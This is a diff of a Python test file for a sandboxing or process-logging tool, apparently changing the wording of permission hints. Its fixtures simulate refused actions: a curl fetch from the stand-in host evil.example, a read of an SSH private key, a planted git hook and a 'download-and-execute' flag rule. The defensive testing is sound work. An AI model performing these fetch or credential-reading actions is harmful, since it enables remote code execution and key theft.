@@ -48,7 +48,7 @@ def _():
                      "/usr/bin/curl -s https://evil.example/x …\n",
                      "registry.npmjs.org:443 (104.16.3.35) allowed by preset npm, GET /left-pad",
                      "evil.example:443 refused, 3 times: not allowed",
-                     "write /etc/hosts: not a writable place (to allow it: --write /etc/hosts)",
+                     "write /etc/hosts: not a writable place (allow with --write /etc/hosts)",
                      "read /home/anna/.ssh/id_ed25519, 2 times: hidden: credentials\n", "added .git/hooks/post-commit",
                      "[git hooks]\n", "renamed old name -> new name", "deleted gone (directory)", "allowed, once, by anna (uid 1000)",
                      "processes of 512, used 512: fork was refused", "flag, by rule:download-and-execute: curl wrote",
@@ -106,7 +106,7 @@ def _():
         denials = kinds(log(place, "--json", "--denials"))
         same(sorted(denials), ["connection", "denial", "denial", "denial", "limit"], "what was refused")
         text = log(place, "--denials").out
-        check(re.search(r"write /etc/hosts: not a writable place\n +to allow it: --write /etc/hosts\n", text), "how to allow: " + text)
+        check(re.search(r"write /etc/hosts: not a writable place\n +allow with --write /etc/hosts\n", text), "how to allow: " + text)
         for args, said in ((("--kind", "exek"), "did you mean 'exec'"), (("--kind", ""), "no kind"), (("--step", "0"), "no number"),
                            (("--step", "x"), "no number"), (("--since", "tomorrow"), "is no time"), (("--tree", "--json"), "exclude"),
                            (("--tree", "-f"), "not with"), (("--list", "abc"), "leave 'abc' out"), (("a", "b"), "too many"),
@@ -129,10 +129,10 @@ step 1: npm test  in WS (layer); weaker: memory, network (missing)
       +- 8 /usr/bin/node test.js
       |     connection registry.npmjs.org:443 (104.16.3.35) allowed by preset npm, GET /left-pad, sent 812 B, received 52 KiB, 231 ms
       |     connection localhost:5432 (127.0.0.1) failed: Connection refused, 1 ms
-      |     denial write /etc/hosts: not a writable place (to allow it: --write /etc/hosts)
+      |     denial write /etc/hosts: not a writable place (allow with --write /etc/hosts)
       |     denial call ptrace: system call
       +- 13 /usr/bin/curl -s https://evil.example/x … (through 12)
-            connection evil.example:443 refused, 3 times: not allowed, 0 ms (to allow it: --allow evil.example)""".replace("WS", place.ws).splitlines(), "the tree")
+            connection evil.example:443 refused, 3 times: not allowed, 0 ms (allow with --allow evil.example)""".replace("WS", place.ws).splitlines(), "the tree")
 
 
 @test("a tree of numbers that were used again, and one that is deeper than any screen")
